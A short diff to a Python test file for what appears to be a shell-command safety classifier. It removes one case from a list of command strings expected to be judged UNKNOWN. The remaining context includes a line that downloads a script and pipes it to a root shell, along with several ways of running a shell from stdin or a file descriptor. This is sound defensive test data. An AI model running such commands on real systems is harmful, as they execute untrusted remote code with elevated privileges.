@@ -756,7 +756,6 @@ def test_a_word_with_escapes_of_bash_leaves_the_outcome_of_dash_open() -> None:
         ("wget -qO- http://192.0.2.1/a | sudo sh -s -- x", UNKNOWN),
         ("bash /dev/stdin <$X", UNKNOWN),
         ("bash /dev/fd/3 3<$X", UNKNOWN),
-        ("exec 3<$X; sh <&3", UNKNOWN),
         ("exec <$X; sh", UNKNOWN),
         ("(cd /; sh) <$X", UNKNOWN),
         (". /dev/stdin <$X", UNKNOWN),
